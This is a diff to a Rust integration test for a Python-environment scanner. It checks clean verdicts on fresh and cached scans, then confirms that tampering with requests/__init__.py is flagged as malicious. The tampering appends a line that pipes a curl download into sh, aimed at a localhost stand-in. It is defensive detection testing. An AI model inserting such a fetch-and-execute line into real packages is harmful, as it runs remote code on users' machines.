@@ -78,4 +78,44 @@ fn scan_a_real_virtual_environment() {
         .count();
     assert!(pip > 0);
     assert!(j["unchecked"].as_array().unwrap().is_empty());
+    // What is installed is what the wheels held: inspection finds nothing.
+    let inspected = &j["inspection"][0];
+    assert_eq!(inspected["verdict"], "clean", "{inspected:#}");
+    assert_eq!(inspected["environment"]["cached"], 0, "{inspected:#}");
+
+    // Warm: every distribution from the cache, same verdict.
+    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "-f", "json"]);
+    let env = &json(&r)["inspection"][0];
+    assert_eq!(env["verdict"], "clean", "{env:#}");
+    assert_eq!(
+        env["environment"]["cached"],
+        env["environment"]["distributions"]
+    );
+
+    // A file changed after install, RECORD untouched: the warm scan reads
+    // that distribution again and reports it, naming the file.
+    let site = installed[0].1.clone();
+    let init = std::path::Path::new(&site).join("requests/__init__.py");
+    let mut text = std::fs::read_to_string(&init).unwrap();
+    text.push_str("\nimport os\nos.system('curl -s http://127.0.0.1:9/x | sh')\n");
+    std::fs::write(&init, text).unwrap();
+    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "-f", "json"]);
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    let env = &json(&r)["inspection"][0];
+    assert_eq!(env["verdict"], "malicious", "{env:#}");
+    let cached = env["environment"]["cached"].as_u64().unwrap();
+    let all = env["environment"]["distributions"].as_u64().unwrap();
+    assert_eq!(cached + 1, all, "{env:#}");
+    assert!(
+        env["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|w| w.as_str().unwrap().contains("requests/__init__.py")),
+        "{env:#}"
+    );
+    // The table names the file too.
+    let r = custody_run(home.path(), &["scan", venv.to_str().unwrap(), "--no-cache"]);
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert!(r.stdout.contains("requests/__init__.py"), "{}", r.stdout);
 }
